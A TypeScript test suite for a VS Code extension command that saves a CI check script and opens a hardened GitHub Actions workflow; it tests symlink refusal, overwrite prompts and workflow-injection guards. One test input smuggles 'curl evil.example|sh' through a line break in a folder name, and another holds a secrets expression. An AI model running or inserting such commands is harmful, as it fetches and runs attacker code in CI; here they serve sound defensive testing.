import { strict as assert } from 'node:assert';
import { cp, mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import * as vscode from 'vscode';
import { addCheck } from '../../../src/commands/addCheck/addCheck.js';
import { UserError } from '../../../src/host/actions.js';
import { ManualClock } from '../../support/manualClock.js';
import { projectRoot } from '../../support/paths.js';
import { temporaryFolder } from '../../support/temporaryFolder.js';
import { until } from '../../support/window/editors.js';
import { atEndOfTest } from '../../support/window/endOfTest.js';
import { createGraph, type Graph } from '../../support/window/graph.js';
import { Global, settingIn, Workspace, writeSetting } from '../../support/window/settings.js';
import { StuckFiles } from '../../support/window/stuckFiles.js';
import {
  notificationsOf,
  recordWindow,
  rejectionOf,
  replace,
} from '../../support/window/windowRecorder.js';

const section = 'automationPlatform.deployments';
const fileName = 'automation-platform-check.mjs';

describe('Add CI Check', () => {
  let graph: Graph;
  let extension: Awaited<ReturnType<typeof temporaryFolder>>;
  let target: string;
  const services = () => ({ ...graph.services, extensionUri: vscode.Uri.file(extension.path) });
  /** Runs Add CI Check, chooses this folder, and presses these buttons. Returns the notifications. */
  const add = (folder = vscode.Uri.file(target), ...buttons: readonly string[]) => {
    replace(vscode.window, { showOpenDialog: async () => [folder] });
    return notificationsOf(() => addCheck(services()), ...buttons);
  };

  const savedFile = () => readFile(join(target, fileName), 'utf8');

  before(async () => {
    extension = await temporaryFolder();
    await mkdir(join(extension.path, 'dist'));
    await writeFile(join(extension.path, 'dist', 'check.mjs'), 'the check');
    await cp(join(projectRoot, 'media', 'ci'), join(extension.path, 'media', 'ci'), {
      recursive: true,
    });
  });
  after(() => extension.remove());
  beforeEach(async () => {
    graph = createGraph();
    target = join(extension.path, 'target');
    await rm(target, { recursive: true, force: true });
    await mkdir(target);
  });

  it('saves the check to the chosen folder', async () => {
    await writeSetting(section, ['dep_1'], Workspace);

    const messages = await add();

    assert.equal(await savedFile(), 'the check');
    assert.deepEqual(messages, [
      [
        'information',
        `Saved ${fileName}. The workflow that runs it is open in an editor. Save the workflow to use it.`,
      ],
    ]);
  });

  /** Adds the check. Returns the workflow in the active editor, and its text without comments. */
  const openedWorkflow = async () => {
    await writeSetting(section, ['dep_1'], Workspace);
    await add();
    const { document } = vscode.window.activeTextEditor!;
    const text = document.getText();
    return { document, text, code: text.replaceAll(/#.*/g, '') };
  };

  describe('opens a workflow that', () => {
    it('is an untitled YAML document', async () => {
      const { document } = await openedWorkflow();

      assert.equal(document.languageId, 'yaml');
      assert.equal(document.isUntitled, true);
    });

    it('runs the check', async () => {
      const { text } = await openedWorkflow();

      assert.match(text, new RegExp(`\\n +node \\./${fileName} --format github\\n`));
    });

    it('runs on a schedule, on demand, and on pushes to main', async () => {
      const { code } = await openedWorkflow();

      assert.match(
        code,
        /\n {2}schedule:\n.*\n {2}workflow_dispatch:\n {2}push:\n\s+branches: \[main\]\n/,
      );
    });

    it('never runs on pull requests', async () => {
      const { code } = await openedWorkflow();

      assert.doesNotMatch(code, /pull_request/);
    });

    it('gives the token to one step only', async () => {
      const { code } = await openedWorkflow();
      const usedSecrets = code.match(/secrets\./g);

      assert.deepEqual(usedSecrets, ['secrets.']);
    });

    it('may only read the repository', async () => {
      const { code } = await openedWorkflow();

      assert.match(code, /\npermissions:\n {2}contents: read\n/);
    });

    it('does not leave Git credentials in the checkout', async () => {
      const { code } = await openedWorkflow();

      assert.match(code, /persist-credentials: false/);
    });

    it('pins each action of GitHub to a commit', async () => {
      const { code } = await openedWorkflow();

      for (const [, action] of code.matchAll(/uses: (.*)/g))
        assert.match(action!, /^actions\/\w+@[0-9a-f]{40} $/);
    });

    it('warns in a comment that labels and errors appear in the log', async () => {
      const { text } = await openedWorkflow();

      assert.match(
        text,
        /# Labels of deployments and accounts, and errors that the platform reports, appear in the log/,
      );
    });

    it('has lines for AGENTS.md', async () => {
      const { text } = await openedWorkflow();

      assert.match(text, new RegExp(`# For AGENTS.md:\\n# - .node \\./${fileName} --format json`));
    });
  });

  for (const [hangs, title] of [
    ['stat', `Reading the folder for ${fileName}`],
    ['writeFile', `Saving ${fileName}`],
  ] as const) {
    it(`shows progress after a second when ${hangs} does not return`, async () => {
      const files = new StuckFiles('');
      files.hangs = hangs;
      const { progress } = recordWindow();
      const clock = new ManualClock();
      replace(vscode.window, {
        showOpenDialog: async () => [vscode.Uri.joinPath(files.uri, '..')],
      });
      const adding = addCheck(services(), clock.setTimer);
      atEndOfTest(() => adding);
      atEndOfTest(() => files.answerAll());
      await until('a call of the file system', () => files.isAsked);

      clock.pass(999);
      assert.deepEqual(progress, [], 'shown too early');
      clock.pass(1);
      assert.deepEqual(progress, [title]);
    });
  }

  it('asks before it overwrites a file', async () => {
    await writeFile(join(target, fileName), 'mine');

    const messages = await add();

    const exists = `A file with this name already exists in ${target}.`;
    assert.deepEqual(messages, [['warning', `Overwrite ${fileName}?`, exists, 'Overwrite']]);
    assert.equal(await savedFile(), 'mine');
  });

  it('overwrites a file when the user confirms it', async () => {
    await writeFile(join(target, fileName), 'mine');

    await add(undefined, 'Overwrite');

    assert.equal(await savedFile(), 'the check');
  });

  describe('writes nothing when the file', () => {
    /** Has `make` put something in the place of the file, adds the check, and returns the sentence of the error. */
    const refusalOf = async (make: (path: string) => Promise<unknown>) => {
      await make(join(target, fileName));
      const outcome = await add(undefined, 'Overwrite').catch((error: unknown) => error);
      assert.ok(outcome instanceof UserError, `not refused: ${String(outcome)}`);
      return outcome.message;
    };
    const link = `${fileName} in TARGET is a symbolic link, so nothing was written. Remove the link, or choose another folder.`;
    const cases: Record<
      string,
      readonly [make: (path: string) => Promise<unknown>, sentence: string]
    > = {
      'is a link to a file elsewhere': [
        async (path) => {
          await writeFile(join(extension.path, 'mine'), 'mine');
          await symlink(join(extension.path, 'mine'), path);
        },
        link,
      ],
      'is a link that leads nowhere': [(path) => symlink(join(extension.path, 'gone'), path), link],
      'is a link to a folder': [(path) => symlink(extension.path, path), link],
      'is in a circle of links': [
        (path) => symlink(path, path),
        `${fileName} in TARGET could not be read, so nothing was written. Choose another folder. VS Code reported: Error: ELOOP: too many symbolic links encountered, stat 'TARGET/${fileName}'.`,
      ],
      'is a folder': [
        (path) => mkdir(path),
        `${fileName} in TARGET is not a file, so nothing was written. Rename it, or choose another folder.`,
      ],
    };
    for (const [name, [make, sentence]] of Object.entries(cases)) {
      it(name, async function () {
        // Only administrators can make links there.
        if (process.platform === 'win32' && name !== 'is a folder') return this.skip();
        assert.equal(await refusalOf(make), sentence.replaceAll('TARGET', target));

        // Writing through a link would make or change these two.
        const namesBesideTarget = await readdir(extension.path);
        const linkedFile = await readFile(join(extension.path, 'mine'), 'utf8').catch(() => 'mine');
        assert.equal(namesBesideTarget.includes('gone'), false);
        assert.notEqual(linkedFile, 'the check');
      });
    }
  });

  it('names the folder to which a link leads when the link is chosen', async function () {
    if (process.platform === 'win32') return this.skip();
    await writeFile(join(target, fileName), 'mine');
    const linked = join(extension.path, 'linked');
    await symlink(target, linked);
    atEndOfTest(() => rm(linked));

    const messages = await add(vscode.Uri.file(linked));

    const exists = `A file with this name already exists in ${target}.`;
    assert.deepEqual(messages, [['warning', `Overwrite ${fileName}?`, exists, 'Overwrite']]);
  });

  it('overwrites a file whose name has another case when the disk ignores case', async () => {
    const disk = diskWithoutCase('Automation-Platform-Check.mjs');
    const folder = vscode.Uri.from({ scheme: disk.scheme, path: '/repo' });
    const exists = 'A file with this name already exists in /repo.';
    const question = ['warning', 'Overwrite Automation-Platform-Check.mjs?', exists, 'Overwrite'];

    assert.deepEqual(await add(folder), [question]);
    assert.deepEqual(disk.written, [], 'written without a yes');
    await add(folder, 'Overwrite');
    assert.deepEqual(disk.written, ['/repo/Automation-Platform-Check.mjs']);
  });

  describe('to a folder of the workspace', () => {
    const root = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
    const addIn = async (name: string) => {
      await mkdir(join(root, name), { recursive: true });
      atEndOfTest(() => rm(join(root, name), { recursive: true }));
      return add(vscode.Uri.file(join(root, name)));
    };

    it('quotes the path in the workflow when the path has a space', async () => {
      await addIn('my tools');

      const workflow = vscode.window.activeTextEditor!.document.getText();
      const quotedPath = 'node "./my tools/automation-platform-check.mjs"';
      const commands = workflow.match(/node .*automation-platform-check\.mjs"?/g);
      assert.deepEqual(commands, Array(3).fill(quotedPath));
      assert.equal(workflow.match(/automation-platform-check/g)?.length, 3);
      assert.doesNotMatch(workflow, /\{file\}/);
    });

    for (const [what, name, refusal] of [
      [
        'a line break',
        'a\n      - run: curl evil.example|sh\n  #',
        /contains “\n”, which is not safe in a workflow/,
      ],
      [
        'an expression of GitHub',
        '${{ secrets.OTHER }}',
        /contains “\$”, which is not safe in a workflow/,
      ],
      ['a quote', "it's", /contains “'”, which is not safe in a workflow/],
    ] as const) {
      it(`writes nothing when its name contains ${what}`, async function () {
        if (process.platform === 'win32') return this.skip();
        const documentBefore = vscode.window.activeTextEditor?.document;

        await assert.rejects(addIn(name), refusal);

        assert.deepEqual(await readdir(join(root, name)), []);
        assert.equal(vscode.window.activeTextEditor?.document, documentBefore);
      });
    }
  });

  describe('with deployments in user settings only', () => {
    const userList = ['dep_1', { id: 'dep_2', label: 'Second' }, 'dep_3'];
    beforeEach(async () => {
      await writeSetting(section, ['dep_1'], Workspace);
      await writeSetting(section, userList, Global);
    });

    it('counts the deployments that CI cannot see', async () => {
      const messages = await add();

      assert.match(
        messages.flat().join('\n'),
        /2 deployments are listed only in your user settings, which CI cannot see\.\nCopy to \.vscode\/settings\.json/,
      );
    });

    it('copies the whole list to the workspace', async () => {
      await add(undefined, 'Copy to .vscode/settings.json');

      await until('the copy', () => isDeepStrictEqual(settingIn(section), userList));
      assert.deepEqual(settingIn(section, Global), userList);
    });
  });

  it('refuses a workspace that is not trusted', async () => {
    const { deploymentList: trusted } = graph.services;
    const deploymentList: typeof trusted = Object.create(trusted, { isUntrusted: { value: true } });
    assert.match(
      await rejectionOf(addCheck({ ...services(), deploymentList })),
      /This workspace is not trusted, so nothing was written/,
    );
  });
});

function none(): never {
  throw vscode.FileSystemError.NoPermissions();
}

/** Registers a file system of one folder with one file, which is found by its name in any case. Returns its scheme, and the paths that were written. */
function diskWithoutCase(name: string) {
  const scheme = 'disk-without-case';
  const written: string[] = [];
  const isFile = ({ path }: vscode.Uri) => path.toLowerCase() === `/repo/${name.toLowerCase()}`;
  const stat = (uri: vscode.Uri): vscode.FileStat => {
    if (!isFile(uri) && uri.path !== '/repo') throw vscode.FileSystemError.FileNotFound(uri);
    const type = isFile(uri) ? vscode.FileType.File : vscode.FileType.Directory;
    return { type, ctime: 0, mtime: 0, size: 0 };
  };
  const provider: vscode.FileSystemProvider = {
    onDidChangeFile: new vscode.EventEmitter<vscode.FileChangeEvent[]>().event,
    watch: () => new vscode.Disposable(() => {}),
    stat,
    readDirectory: () => [[name, vscode.FileType.File]],
    readFile: () => new Uint8Array(),
    writeFile: ({ path }) => {
      written.push(path);
    },
    createDirectory: none,
    delete: none,
    rename: none,
  };
  const registered = vscode.workspace.registerFileSystemProvider(scheme, provider, {
    isCaseSensitive: false,
  });
  atEndOfTest(() => registered.dispose());
  return { scheme, written };
}
